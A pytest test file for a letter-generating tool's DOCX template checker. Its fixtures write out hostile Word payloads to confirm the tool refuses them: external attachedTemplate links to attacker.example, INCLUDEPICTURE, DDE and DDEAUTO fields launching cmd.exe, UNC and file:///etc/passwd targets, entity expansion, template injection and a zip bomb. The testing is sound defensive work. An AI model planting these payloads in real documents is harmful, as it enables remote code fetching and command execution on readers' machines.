"""A DOCX never makes Word fetch anything, and values print verbatim in it.

Every hostile template here is the shipped templates/appeal.docx with one
part changed: each must stop ``build`` (and ``batch``) with exit 2, one line
naming the template and the part, and nothing written. What appeal-gen
writes is inspected the same way.
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pytest

from ..conftest import ROOT, docx_paragraphs, pdf_text, squash
from .conftest import EXAMPLE, batch_with_template, cli, make_template, minimal_spec, patch_docx

TEMPLATE = ROOT / "templates" / "appeal.docx"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
FETCH = (
    "makes Word fetch an external file ({}) when the letter is opened; only hyperlinks may point outside the document"
)


def _rels(*relationships: str, encoding: str = "UTF-8") -> str:
    return (
        f"<?xml version='1.0' encoding='{encoding}'?><Relationships xmlns='{RELS_NS}'>"
        + "".join(relationships)
        + "</Relationships>"
    )


def _with_body(extra: str) -> bytes:
    """templates/appeal.docx's body with *extra* (paragraph XML) first."""
    xml = zipfile.ZipFile(TEMPLATE).read("word/document.xml").decode("utf-8")
    return xml.replace("<w:body>", "<w:body>" + extra, 1).encode("utf-8")


def _run(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def _field(*pieces: str) -> str:
    """A complex field whose instruction is split over one run per piece."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(_run(p) for p in pieces)
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


ATTACHED = f"{OFFICE}/attachedTemplate"
REMOTE = "https://attacker.example/t.dotm"

# name -> (replaced or added parts, the message after "TEMPLATE: ")
HOSTILE: dict[str, tuple[dict[str, bytes], str]] = {
    "single quotes": (
        {
            "word/_rels/settings.xml.rels": _rels(
                f"<Relationship Id='rId9' Type='{ATTACHED}' Target='{REMOTE}' TargetMode='External'/>"
            ).encode()
        },
        "word/_rels/settings.xml.rels " + FETCH.format(REMOTE),
    ),
    "spaces around =": (
        {
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rId9" Type = "{ATTACHED}" Target = "{REMOTE}" TargetMode = "External" />'
            ).encode()
        },
        "word/_rels/settings.xml.rels " + FETCH.format(REMOTE),
    ),
    "hyperlink type named in another attribute": (
        {
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship TargetMode="External" Id="{OFFICE}/hyperlink" Target="{REMOTE}" Type="{ATTACHED}"/>'
            ).encode()
        },
        "word/_rels/settings.xml.rels " + FETCH.format(REMOTE),
    ),
    "UTF-16 relationships with a BOM": (
        {
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rId9" Type="{ATTACHED}" Target="{REMOTE}" TargetMode="External"/>',
                encoding="UTF-16",
            ).encode("utf-16")
        },
        "word/_rels/settings.xml.rels " + FETCH.format(REMOTE),
    ),
    "UTF-16 relationships without a BOM": (
        {
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rId9" Type="{ATTACHED}" Target="{REMOTE}" TargetMode="External"/>',
                encoding="UTF-16",
            ).encode("utf-16-le")
        },
        "word/_rels/settings.xml.rels " + FETCH.format(REMOTE),
    ),
    "file: hyperlink": (
        {
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rId9" Type="{OFFICE}/hyperlink" Target="file:///etc/passwd" TargetMode="External"/>'
            ).encode()
        },
        "word/_rels/settings.xml.rels: hyperlink to file:///etc/passwd: "
        "only http, https and mailto links may leave the document",
    ),
    "file: image, internal": (
        {
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rId9" Type="{OFFICE}/image" Target="file:///etc/passwd"/>'
            ).encode()
        },
        "word/_rels/settings.xml.rels: relationship image points outside the document (file:///etc/passwd)",
    ),
    "UNC attached template, internal": (
        {
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rId9" Type="{ATTACHED}" Target="\\\\server\\share\\t.dotm"/>'
            ).encode()
        },
        "word/_rels/settings.xml.rels: relationship attachedTemplate points outside the document "
        "(\\\\server\\share\\t.dotm)",
    ),
    "target above the package": (
        {
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rId9" Type="{OFFICE}/image" Target="../../../etc/passwd"/>'
            ).encode()
        },
        "word/_rels/settings.xml.rels: relationship image points outside the document (../../../etc/passwd)",
    ),
    "INCLUDEPICTURE split over runs": (
        {"word/document.xml": _with_body(_field(" INCLUDE", 'PICTURE "http://attacker.example/p.png" ', "\\d"))},
        "word/document.xml: field INCLUDEPICTURE points outside the document",
    ),
    "INCLUDETEXT in fldSimple": (
        {"word/document.xml": _with_body('<w:p><w:fldSimple w:instr=" includetext c:\\\\secret.txt "/></w:p>')},
        "word/document.xml: field INCLUDETEXT points outside the document",
    ),
    "LINK": (
        {"word/document.xml": _with_body(_field('LINK Excel.Sheet.8 "\\\\\\\\srv\\\\x.xls" "A1" \\a'))},
        "word/document.xml: field LINK points outside the document",
    ),
    "DDE": (
        {"word/document.xml": _with_body(_field('DDE "cmd" "/c calc"'))},
        "word/document.xml: field DDE points outside the document",
    ),
    "DDEAUTO": (
        {"word/document.xml": _with_body(_field(" ddeauto ", '"c:\\\\windows\\\\system32\\\\cmd.exe" "/k calc"'))},
        "word/document.xml: field DDEAUTO points outside the document",
    ),
    "HYPERLINK to a file": (
        {"word/document.xml": _with_body(_field('HYPERLINK "file:///etc/passwd"'))},
        "word/document.xml: field HYPERLINK points outside the document (file:///etc/passwd)",
    ),
    "field name made by a nested field": (
        {
            "word/document.xml": _with_body(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                + _run('QUOTE "INCLUDEPICTURE"')
                + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
                + _run(' "http://attacker.example/p.png"')
                + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            )
        },
        "word/document.xml: a field's name comes from another field; refused (it could include a file)",
    ),
    "field in a footer": (
        {
            "word/footer1.xml": (
                f'<?xml version="1.0" encoding="UTF-8"?><w:ftr {W}>'
                '<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://attacker.example/p.png"/></w:p></w:ftr>'
            ).encode()
        },
        "word/footer1.xml: field INCLUDEPICTURE points outside the document",
    ),
    "upper-case .RELS": (
        {
            "word/_rels/settings.xml.RELS": _rels(
                f'<Relationship Id="rId9" Type="{ATTACHED}" Target="{REMOTE}" TargetMode="External"/>'
            ).encode()
        },
        "word/_rels/settings.xml.RELS " + FETCH.format(REMOTE),
    ),
    "altChunk": (
        {"word/document.xml": _with_body('<w:altChunk r:id="rId99"/>')},
        "word/document.xml: imports another document (altChunk), which Word converts when the letter is opened",
    ),
    "mail-merge data source": (
        {
            "word/settings.xml": zipfile.ZipFile(TEMPLATE)
            .read("word/settings.xml")
            .replace(
                b"<w:zoom ",
                b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/>'
                b'<w:connectString w:val=""/><w:query w:val="SELECT * FROM \\\\srv\\x.txt"/></w:mailMerge>'
                b"<w:zoom ",
                1,
            )
        },
        "word/settings.xml: has a mail-merge data source, which Word reads when the letter is opened",
    ),
    "VML image from a share": (
        {
            "word/document.xml": _with_body(
                '<w:p><w:r><w:pict><v:shape><v:imagedata src="\\\\srv\\x.png"/></v:shape></w:pict></w:r></w:p>'
            )
        },
        "word/document.xml: imagedata points outside the document (\\\\srv\\x.png)",
    ),
    "UTF-16 document with a DOCTYPE": (
        {
            "word/document.xml": (
                '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w:document>'
                + _with_body("").decode("utf-8").split("?>", 1)[1]
            ).encode("utf-16")
        },
        "word/document.xml declares a DOCTYPE or XML entities, which Word never writes; refused (entity expansion)",
    ),
}


def _hostile(tmp_path: Path, name: str) -> Path:
    parts = HOSTILE[name][0]
    with zipfile.ZipFile(TEMPLATE) as z:
        present = set(z.namelist())
    return patch_docx(
        TEMPLATE,
        tmp_path / "hostile.docx",
        {k: v for k, v in parts.items() if k in present},
        {k: v for k, v in parts.items() if k not in present},
    )


@pytest.mark.parametrize("name", list(HOSTILE))
def test_template_pointing_outside_is_refused_by_build(name: str, tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    template = _hostile(tmp_path, name)
    out = tmp_path / "out"
    code, stdout, err = cli(
        capsys, "build", str(EXAMPLE), "--format", "docx", "--template", str(template), "-o", str(out)
    )
    assert (code, stdout, err) == (2, "", f"{template}: {HOSTILE[name][1]}\n")
    assert not out.exists() or list(out.iterdir()) == []


@pytest.mark.parametrize("name", ["single quotes", "INCLUDEPICTURE split over runs", "UTF-16 document with a DOCTYPE"])
def test_template_pointing_outside_is_refused_by_batch(name: str, tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    template = _hostile(tmp_path, name)
    out = tmp_path / "out"
    assert batch_with_template(tmp_path, capsys, template) == (2, f"{template}: {HOSTILE[name][1]}\n")
    assert not out.exists() or list(out.iterdir()) == []


def test_the_shipped_templates_and_harmless_fields_pass(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    """No false alarms: page numbers, web and in-document hyperlinks, https hyperlink relationships."""
    from appeal_gen import ooxml

    for path in sorted((ROOT / "templates").rglob("*.docx")):
        ooxml.check_package(path, str(path))
    harmless = _with_body(
        _field(" PAGE ")
        + _field('HYPERLINK "https://www.frontlinedefenders.org/" \\o "tip"')
        + _field('HYPERLINK \\l "demands"')
        + '<w:p><w:fldSimple w:instr=" NUMPAGES "/></w:p>'
    )
    template = patch_docx(TEMPLATE, tmp_path / "fields.docx", {"word/document.xml": harmless})
    code, _, err = cli(
        capsys, "build", str(EXAMPLE), "--format", "docx", "--template", str(template), "-o", str(tmp_path / "o")
    )
    assert (code, err) == (0, "")


def test_a_field_the_template_writes_with_safe_is_caught_in_the_letter(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    # The template's own XML holds only text; the field appears when it renders.
    tag = "{{ '</w:t></w:r><w:fldSimple w:instr=\"INCLUDEPICTURE http://attacker.example/p.png\"/><w:r><w:t>'|safe }}"
    template = make_template(tmp_path, "Before", tag, "After")
    out = tmp_path / "out"
    code, _, err = cli(capsys, "build", str(EXAMPLE), "--format", "docx", "--template", str(template), "-o", str(out))
    assert (code, err) == (2, f"{template}: word/document.xml: field INCLUDEPICTURE points outside the document\n")
    assert not out.exists() or list(out.iterdir()) == []


FIELD_TEXT = 'INCLUDEPICTURE "http://attacker.example/p.png" { DDEAUTO cmd } LINK x'


def test_a_value_that_reads_like_a_field_prints_as_text_and_passes(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    spec = minimal_spec(tmp_path, summary=f"summary: {json.dumps(FIELD_TEXT)}")
    out = tmp_path / "out"
    code, _, err = cli(capsys, "build", str(spec), "--format", "docx", "-o", str(out))
    assert code == 0, err
    from appeal_gen import ooxml

    (docx,) = out.glob("*.docx")
    assert FIELD_TEXT in [t for _, t in docx_paragraphs(docx.read_bytes())]
    ooxml.check_package(docx.read_bytes(), str(docx))


BRACES = "{_{ title }_} and {_% if x %_} stay as typed"


def test_docxtpl_escapes_in_a_value_print_verbatim_in_build(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    spec = minimal_spec(tmp_path, summary=f"summary: {json.dumps(BRACES)}")
    out = tmp_path / "out"
    code, _, err = cli(capsys, "build", str(spec), "-o", str(out))
    assert code == 0, err
    (pdf,) = out.glob("*.pdf")
    (docx,) = out.glob("*.docx")
    assert squash(BRACES) in squash(pdf_text(pdf.read_bytes()))
    assert BRACES in [t for _, t in docx_paragraphs(docx.read_bytes())]


def test_docxtpl_escapes_in_a_recipient_print_verbatim_in_batch(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    recipients = tmp_path / "r.csv"
    recipients.write_text(f'name,language\n"Ada {BRACES}",en\n', encoding="utf-8")
    out = tmp_path / "out"
    code, _, err = cli(
        capsys, "batch", str(EXAMPLE), "--recipients", str(recipients), "--format", "docx", "-o", str(out)
    )
    assert code == 0, err
    (docx,) = (out / "letters").glob("*.docx")
    text = "\n".join(t for _, t in docx_paragraphs(docx.read_bytes()))
    assert f"Ada {BRACES}" in text
    assert "{{ title }}" not in text


def test_a_zip_whose_headers_understate_an_entry_is_refused(tmp_path: Path) -> None:
    """The central directory says 10 bytes; the entry inflates to a megabyte, and is not read past 10."""
    from appeal_gen import ooxml

    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/document.xml", b" " * 1024 * 1024)
    raw = bytearray(data.getvalue())
    # Uncompressed size: offset 22 in the local header, 24 in the central directory record.
    central = raw.rindex(b"PK\x01\x02")
    raw[22:26] = raw[central + 24 : central + 28] = (10).to_bytes(4, "little")
    with pytest.raises(ooxml.TemplateError) as info, ooxml.open_package(bytes(raw), "t.docx") as pkg:
        pkg.read("word/document.xml")
    assert (
        str(info.value) == "t.docx: cannot read the template as a zip archive: Bad CRC-32 for file 'word/document.xml'"
    )


def test_a_field_the_template_writes_with_safe_is_caught_in_batch(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    """batch inspects each letter's body as a tree (render.docx.CompiledTemplate), not as bytes."""
    tag = "{{ '</w:t></w:r><w:fldSimple w:instr=\"INCLUDEPICTURE http://attacker.example/p.png\"/><w:r><w:t>'|safe }}"
    template = make_template(tmp_path, "{% if recipient %}{% endif %}", tag)
    recipients, out = tmp_path / "r.csv", tmp_path / "out"
    code, err = batch_with_template(tmp_path, capsys, template, "--jobs", "1")
    assert code == 1
    assert err.splitlines()[0] == (
        f"{recipients}:2: {template}: word/document.xml: field INCLUDEPICTURE points outside the document"
    )
    assert not list(out.rglob("*.docx"))
